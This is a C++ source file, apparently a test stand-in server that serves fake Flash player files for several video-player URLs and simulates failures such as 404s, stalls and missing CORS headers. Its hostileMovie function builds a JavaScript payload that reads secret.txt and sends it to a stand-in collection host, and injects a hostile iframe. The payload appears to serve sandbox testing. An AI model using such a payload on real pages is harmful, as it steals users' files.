#include <string>

#include "deploy/deploy.h"
#include "standin/picture_canvas.h"
#include "standin/services.h"
#include "standin/swf_movie.h"

namespace arlo::standin {
namespace {

std::string hostileMovie(std::string_view variable) {
    const std::string collect = "http://" + std::string(kHostileCollectHost) + "/c?d=";
    const std::string frame = "http://" + std::string(kHostileFrameHost) + "/f.htm";
    const std::string script =
        "javascript:window.arloHostileRan=true;"
        "fetch(location.href.replace(/[^/]*$/,'secret.txt')).then(r=>r.text())"
        ".then(t=>fetch('" +
        collect + "'+encodeURIComponent(t)),()=>fetch('" + collect +
        "unreadable'));"
        "document.body.appendChild(Object.assign(document.createElement('iframe'),{src:'" +
        frame + "'}));void 0";
    return swfMovieShowing(
        variable,
        {{script, "_self"}, {"http://" + std::string(kHostileMovieHost) + "/m.swf", "_level1"}});
}

// A player file for the play id in `variable` of the request. Pages fetch it across origins
// (the Player page is a local file), so every answer allows that, except where a test asks
// otherwise through the play id itself.
Response playerFile(const Request& request, std::string_view variable) {
    const std::string id = request.queryValue(variable);
    Response r;
    if (id != "test-no-cors") {
        r.headers.push_back({"Access-Control-Allow-Origin", "*"});
    }
    if (id == "test-404") {
        r.status = 404;
        r.headers.push_back({"Content-Type", "text/html"});
        r.body = "<html><body>404 Not Found</body></html>";
        return r;
    }
    if (id == "test-silent") {
        r.silent = true;
        r.hangAfterSending = true;
        return r;
    }
    if (id == "test-stall" || id == "test-trickle") {
        r.headers.push_back({"Content-Type", "application/x-shockwave-flash"});
        r.body = swfMovieShowing(variable);
        if (id == "test-stall") {
            r.contentLength = r.body.size();
            r.body.resize(r.body.size() / 3);
            r.hangAfterSending = true;
        } else {
            r.trickle = std::chrono::milliseconds(100);
        }
        return r;
    }
    if (id == "test-html") {
        r.headers.push_back({"Content-Type", "text/html"});
        r.body =
            "<html><head><title>Moved</title></head><body>This player has moved.</body></html>";
        return r;
    }
    r.headers.push_back({"Content-Type", "application/x-shockwave-flash"});
    r.body = id == "test-hostile" ? hostileMovie(variable) : swfMovieShowing(variable);
    return r;
}

}  // namespace

void addFlashPlayers(Server& server) {
    const std::string host = hostOf(deploy::kPlayerHost);
    server.route(host, "/sohu_20140917.swf", [](const Request& request) {
        // Japanese-dubbed episodes and the trailer pass "id", Mandarin-dubbed ones "vid".
        return playerFile(request, request.queryValues("vid").empty() ? "id" : "vid");
    });
    server.route(host, "/20150110_letv.swf",
                 [](const Request& request) { return playerFile(request, "id"); });
    server.route(hostOf(deploy::kIqiyiPlayerHost), "/player/20140730103714/Player.swf",
                 [](const Request& request) { return playerFile(request, "definitionID"); });
}

}  // namespace arlo::standin
